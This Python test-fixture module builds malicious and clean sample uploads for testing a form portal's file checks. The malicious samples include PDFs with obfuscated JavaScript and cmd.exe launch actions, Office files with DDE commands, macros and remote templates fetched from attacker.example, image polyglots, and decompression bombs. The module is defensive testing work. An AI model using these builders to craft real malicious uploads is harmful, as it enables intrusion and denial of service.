"""Files an attacker uploads, and the clean files people really send, each
built here from nothing: PDFs with script in every hiding place, image
polyglots, Office files with macros, external links, nested archives and
unpacking bombs.

`HOSTILE` maps a name to (builder, what the refusal says); `CLEAN` maps a name
to a builder. Both are used by the unit tests of the file checks and by the
journey tests that upload through the apply page.
"""

import functools
import io
import struct
import zipfile
import zlib

# ---- PDF -----------------------------------------------------------------------


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand, object 1 the catalog, with a correct cross-reference
    table, so that only what the objects say is judged (no repair)."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _page(extra: bytes = b"") -> bytes:
    return b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>" + extra + b">>"


def pdf_hex_escaped_javascript() -> bytes:
    # A document-level script in the /Names tree, every name written with hex
    # escapes: /J#61vaScript is /JavaScript, /J#53 is /JS.
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Names<</J#61vaScript 4 0 R>>>>",
        _PAGES,
        _page(),
        b"<</Names[(init) 5 0 R]>>",
        b"<</S/J#61vaScript/J#53(app.alert('owned'))>>",
    )


def pdf_hex_escaped_launch() -> bytes:
    # A link on the page that starts a program, its action type hex-escaped.
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        _PAGES,
        _page(b"/Annots[4 0 R]"),
        b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]"
        b"/A<</S/L#61unch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>>>",
    )


def pdf_link_to_file_on_share() -> bytes:
    # A link that opens another PDF from a network share (GoToR).
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        _PAGES,
        _page(b"/Annots[4 0 R]"),
        b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]"
        b"/A<</S/GoToR/F(\\\\\\\\attacker.example\\\\s\\\\x.pdf)/D[0/Fit]>>>>",
    )


def pdf_xfa() -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
        _PAGES,
        _page(),
        b"<</Length 44>>stream\n<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>\nendstream",
    )


def pdf_page_opens_web_address() -> bytes:
    # No script: the page's additional action (AA /O, "page opened") calls home.
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        _PAGES,
        _page(b"/AA<</O<</S/URI/URI(http://tracker.example/open)>>>>"),
    )


@functools.cache
def pdf_object_stream_bomb() -> bytes:
    """About 2 MB whose object stream inflates to 2 GiB, a script packed at
    its start: a parser short of memory reads that object as null."""
    packed = b"5 0 <</S/JavaScript/JS(app.alert('owned'))>>"
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = c.compress(packed) + c.flush(zlib.Z_FULL_FLUSH)
    zeros, _crc, size = _zeros_deflated(2048)
    adler = zlib.adler32(packed)
    chunk = b"\x00" * (1 << 20)
    for _ in range(size >> 20):
        adler = zlib.adler32(chunk, adler)
    flate = b"\x78\xda" + start + zeros + struct.pack(">I", adler)
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/Extra 5 0 R>>",
        2: _PAGES,
        3: _page(),
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(flate)
        + flate
        + b"\nendstream",
    }
    out, offsets = bytearray(b"%PDF-1.5\n"), {}
    for number, body in bodies.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = b"\x00" + struct.pack(">I", 0) + b"\xff\xff"
    rows += b"".join(b"\x01" + struct.pack(">I", offsets[n]) + b"\x00\x00" for n in (1, 2, 3, 4))
    rows += b"\x02" + struct.pack(">I", 4) + b"\x00\x00"  # object 5: first in stream 4
    rows += b"\x01" + struct.pack(">I", offsets[6]) + b"\x00\x00"
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pdf_broken() -> bytes:
    return b"%PDF-1.7\n" + b"\x13\x37" * 200


def _pikepdf_save(pdf, **kwargs) -> bytes:
    """Saved with compressed object streams: every dictionary that may be
    compressed is, so none of its names appear in the file's bytes."""
    import pikepdf

    buf = io.BytesIO()
    pdf.save(buf, object_stream_mode=pikepdf.ObjectStreamMode.generate, static_id=True, **kwargs)
    return buf.getvalue()


def _js_action(pdf):
    import pikepdf

    return pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('owned')"))
    )


def pdf_javascript_in_object_stream() -> bytes:
    # A link annotation whose action is script, inside a compressed object stream.
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    link = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[0, 0, 595, 842],
            A=_js_action(pdf),
        )
    )
    pdf.pages[0].Annots = pdf.make_indirect([link])
    return _pikepdf_save(pdf)


def pdf_open_action_javascript() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = _js_action(pdf)
    return _pikepdf_save(pdf)


def pdf_page_additional_action_javascript() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.pages[0].AA = pikepdf.Dictionary(O=_js_action(pdf))
    return _pikepdf_save(pdf)


def pdf_field_additional_action_javascript() -> bytes:
    # A form field that runs script when a value is typed (AA /K).
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    field = pdf.make_indirect(
        pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("name"), AA={"/K": _js_action(pdf)})
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[field])
    return _pikepdf_save(pdf)


def pdf_embedded_file() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00" + b"\x00" * 60)
    # The embedded stream's own /Type is optional; without it no name of the
    # attachment is left in the file's bytes.
    for obj in pdf.objects:
        if isinstance(obj, pikepdf.Stream) and obj.get("/Type") == pikepdf.Name.EmbeddedFile:
            del obj.Type
    return _pikepdf_save(pdf)


def pdf_needs_password() -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _pikepdf_save(pdf, encryption=pikepdf.Encryption(user="secret", owner="owner"))


def pdf_owner_locked() -> bytes:
    """Encrypted with an empty user password, as official forms often are
    ("no editing"): opens without a password and is judged in full."""
    import pikepdf

    pdf = pikepdf.new()
    pdf.add_blank_page()
    return _pikepdf_save(
        pdf,
        encryption=pikepdf.Encryption(
            user="", owner="owner", allow=pikepdf.Permissions(modify_other=False)
        ),
    )


def pdf_demo_form() -> bytes:
    """The blank form the demo catalogue publishes (reportlab)."""
    from hall.catalogue.demo import _pdf_bytes

    return _pdf_bytes("食品经营许可申请书", "食品经营许可", True)


def pdf_with_web_link() -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>",
        _PAGES,
        _page(b"/Annots[4 0 R]"),
        b"<</Type/Annot/Subtype/Link/Rect[0 0 100 20]/A<</S/URI/URI(https://www.gov.cn/)>>>>",
    )


# ---- images --------------------------------------------------------------------


def _image(fmt: str, size=(64, 48), **kwargs) -> bytes:
    from PIL import Image, ImageDraw

    img = Image.new("RGB", size, (245, 248, 252))
    ImageDraw.Draw(img).rectangle((4, 4, size[0] - 5, size[1] - 5), outline=(10, 74, 143))
    buf = io.BytesIO()
    img.save(buf, fmt, **kwargs)
    return buf.getvalue()


def png() -> bytes:
    return _image("PNG")


def jpeg() -> bytes:
    return _image("JPEG", quality=85)


def jpeg_progressive_with_exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Camera"  # Make
    return _image("JPEG", size=(320, 240), progressive=True, exif=exif.tobytes())


def mpo_two_images() -> bytes:
    """What phones save as one photo with a second image after the first (MPF)."""
    from PIL import Image

    first = Image.new("RGB", (64, 48), (200, 10, 10))
    second = Image.new("RGB", (64, 48), (10, 200, 10))
    buf = io.BytesIO()
    first.save(buf, "MPO", save_all=True, append_images=[second])
    return buf.getvalue()


MZ_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 48 + b"PE\x00\x00"
SCRIPT = b"<script>fetch('/staff/').then(r=>r.text()).then(t=>alert(t))</script>"


def png_then_script() -> bytes:
    return png() + SCRIPT


def png_header_then_script() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + SCRIPT


def jpeg_then_executable() -> bytes:
    return jpeg() + MZ_EXECUTABLE


def jpeg_header_then_executable() -> bytes:
    return b"\xff\xd8\xff\xe0" + MZ_EXECUTABLE


def jpeg_truncated() -> bytes:
    data = _image("JPEG", size=(320, 240), quality=95)
    return data[: len(data) // 2]


def png_truncated() -> bytes:
    data = _image("PNG", size=(320, 240))
    return data[: len(data) - 30]


@functools.cache
def png_pixel_bomb() -> bytes:
    """A small file that decodes to 100 million pixels."""
    from PIL import Image

    buf = io.BytesIO()
    Image.new("1", (10_000, 10_000)).save(buf, "PNG")
    return buf.getvalue()


# ---- Office --------------------------------------------------------------------


@functools.cache
def docx() -> bytes:
    """The demo's filled form (python-docx)."""
    from hall.catalogue.demo import _docx_bytes

    return _docx_bytes("食品经营许可申请书", "食品经营许可", True)


def xlsx() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["店铺名称", "面积"])
    wb.active.append(["张三小吃", 35.5])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def rezip(data: bytes, *, add: dict | None = None, change: dict | None = None) -> bytes:
    """The same Office file with parts added or replaced."""
    add, change = add or {}, change or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            body = src.read(info)
            if info.filename in change:
                body = change[info.filename](body)
            dst.writestr(info.filename, body)
        for name, body in add.items():
            dst.writestr(name, body)
    return out.getvalue()


def _add_relationship(rels: bytes, rel_id: str, kind: str, target: str, external=True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    rel = (
        f'<Relationship Id="{rel_id}" Target="{target}"{mode} Type="http://schemas.'
        f'openxmlformats.org/officeDocument/2006/relationships/{kind}"/>'
    )
    return rels.replace(b"</Relationships>", rel.encode() + b"</Relationships>")


def docx_with_web_hyperlink() -> bytes:
    return rezip(
        docx(),
        change={
            "word/_rels/document.xml.rels": lambda r: _add_relationship(
                r, "rIdLink1", "hyperlink", "https://www.gov.cn/"
            )
        },
    )


def docx_with_share_hyperlink() -> bytes:
    return rezip(
        docx(),
        change={
            "word/_rels/document.xml.rels": lambda r: _add_relationship(
                r, "rIdLink1", "hyperlink", "file://attacker.example/share/x.docx"
            )
        },
    )


def docx_with_vba_project() -> bytes:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return rezip(docx(), add={"word/vbaProject.bin": ole})


def docx_macro_enabled_content_type() -> bytes:
    # A .docm renamed .docx: the main part is declared macro-enabled.
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    return rezip(docx(), change={"[Content_Types].xml": lambda t: t.replace(plain, macro)})


def docx_with_remote_template() -> bytes:
    """A remote template (attachedTemplate): Word fetches it on open."""
    settings_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    return rezip(
        docx(),
        add={
            "word/_rels/settings.xml.rels": _add_relationship(
                settings_rels, "rId1", "attachedTemplate", "http://attacker.example/t.dotm"
            )
        },
    )


def docx_with_nested_zip() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("run.js", "WScript.Shell")
    # Named like a picture: the content gives it away.
    return rezip(docx(), add={"word/media/image9.png": inner.getvalue()})


def docx_with_dde_field() -> bytes:
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        b'<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        b'<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe'
        b' "/k calc"</w:instrText></w:r>'
        b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return rezip(
        docx(), change={"word/document.xml": lambda d: d.replace(b"<w:body>", b"<w:body>" + field)}
    )


def docx_with_too_many_entries() -> bytes:
    return rezip(docx(), add={f"customXml/extra{i}.xml": b"<a/>" for i in range(1001)})


def xlsx_with_external_link() -> bytes:
    link = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"/></externalLink>'
    )
    link_rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    return rezip(
        xlsx(),
        add={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": _add_relationship(
                link_rels, "rId1", "externalLinkPath", "file:///\\\\attacker.example\\s\\b.xlsx"
            ),
        },
        change={
            "xl/_rels/workbook.xml.rels": lambda r: _add_relationship(
                r, "rId99", "externalLink", "externalLinks/externalLink1.xml", external=False
            )
        },
    )


def _raw_zip(entries: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip written by hand from already deflated parts: (name, deflated, crc, size)."""
    out, central = bytearray(), bytearray()
    for name, deflated, crc, size in entries:
        offset = len(out)
        encoded = name.encode()
        fields = (20, 0, 8, 0, 0, crc, len(deflated), size, len(encoded), 0)
        out += b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", *fields) + encoded + deflated
        central += b"PK\x01\x02" + struct.pack(
            "<HHHHHHIIIHHHHHII",
            *(20, 20, 0, 8, 0, 0, crc, len(deflated), size, len(encoded), 0, 0, 0, 0, 0, offset),
        )
        central += encoded
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central), len(out), 0)
    return bytes(out + central + b"PK\x05\x06" + end)


def _deflate(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def _zeros_deflated(mebibytes: int) -> tuple[bytes, int, int]:
    """Deflated zeros, built from one deflated mebibyte repeated (a deflate
    stream is a run of blocks), so a gibibyte costs a second, not a minute."""
    chunk = b"\x00" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty last block
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(chunk, crc)
    return block * mebibytes + final, crc, mebibytes << 20


def docx_bomb(mebibytes: int) -> bytes:
    entries = []
    with zipfile.ZipFile(io.BytesIO(docx())) as z:
        for info in z.infolist():
            body = z.read(info)
            entries.append((info.filename, _deflate(body), zlib.crc32(body), len(body)))
    entries.append(("word/media/image1.emf", *_zeros_deflated(mebibytes)))
    return _raw_zip(entries)


def docx_lying_directory() -> bytes:
    """The zip directory claims a mebibyte of zeros; the data is something else."""
    entries = []
    with zipfile.ZipFile(io.BytesIO(docx())) as z:
        for info in z.infolist():
            body = z.read(info)
            entries.append((info.filename, _deflate(body), zlib.crc32(body), len(body)))
    _zeros, crc, size = _zeros_deflated(1)
    entries.append(("word/media/image1.emf", _deflate(b"A" * (8 << 20)), crc, size))
    return _raw_zip(entries)


@functools.cache
def docx_gibibyte_bomb() -> bytes:
    """About 1 MB that inflates to 1 GiB."""
    return docx_bomb(1024)


def docx_ratio_bomb() -> bytes:
    """50 MiB of zeros in 50 KB: under the total limit, far over the ratio."""
    return docx_bomb(50)


HOSTILE = {
    "pdf-hex-escaped-javascript": (pdf_hex_escaped_javascript, "脚本（JavaScript）"),
    "pdf-javascript-in-object-stream": (pdf_javascript_in_object_stream, "脚本（JavaScript）"),
    "pdf-hex-escaped-launch": (pdf_hex_escaped_launch, "启动外部程序"),
    "pdf-link-to-file-on-share": (pdf_link_to_file_on_share, "启动外部程序或文件"),
    "pdf-embedded-file": (pdf_embedded_file, "嵌入的文件"),
    "pdf-xfa": (pdf_xfa, "XFA"),
    "pdf-open-action-javascript": (pdf_open_action_javascript, "脚本（JavaScript）"),
    "pdf-page-aa-javascript": (pdf_page_additional_action_javascript, "脚本（JavaScript）"),
    "pdf-field-aa-javascript": (pdf_field_additional_action_javascript, "脚本（JavaScript）"),
    "pdf-page-aa-web-address": (pdf_page_opens_web_address, "自动执行的动作"),
    "pdf-object-stream-bomb": (pdf_object_stream_bomb, "结构异常复杂"),
    "pdf-broken": (pdf_broken, "不是完整有效的 PDF"),
    "pdf-needs-password": (pdf_needs_password, "打开密码"),
    "png-then-script": (png_then_script, "附带了其他内容"),
    "png-header-then-script": (png_header_then_script, "无法完整解码"),
    "jpeg-then-executable": (jpeg_then_executable, "附带了其他内容"),
    "jpeg-header-then-executable": (jpeg_header_then_executable, "无法完整解码"),
    "jpeg-truncated": (jpeg_truncated, "无法完整解码"),
    "png-truncated": (png_truncated, "无法完整解码"),
    "png-pixel-bomb": (png_pixel_bomb, "像素过多"),
    "docx-gibibyte-bomb": (docx_gibibyte_bomb, "解压后过大"),
    "docx-ratio-bomb": (docx_ratio_bomb, "压缩比异常"),
    "docx-lying-directory": (docx_lying_directory, "已损坏"),
    "docx-vba-project": (docx_with_vba_project, "含有宏"),
    "docx-macro-enabled-type": (docx_macro_enabled_content_type, "含有宏"),
    "docx-remote-template": (docx_with_remote_template, "attachedTemplate"),
    "docx-share-hyperlink": (docx_with_share_hyperlink, "共享文件夹的链接"),
    "docx-nested-zip": (docx_with_nested_zip, "嵌入了其他文件或压缩包"),
    "docx-dde-field": (docx_with_dde_field, "DDE"),
    "docx-too-many-entries": (docx_with_too_many_entries, "部件过多"),
    "xlsx-external-link": (xlsx_with_external_link, "引用了外部内容"),
}

CLEAN = {
    "pdf-demo-form": pdf_demo_form,
    "pdf-web-link": pdf_with_web_link,
    "pdf-owner-locked": pdf_owner_locked,
    "png": png,
    "jpeg": jpeg,
    "jpeg-progressive-exif": jpeg_progressive_with_exif,
    "jpeg-mpo": mpo_two_images,
    "docx-demo-form": docx,
    "docx-web-hyperlink": docx_with_web_hyperlink,
    "xlsx": xlsx,
}
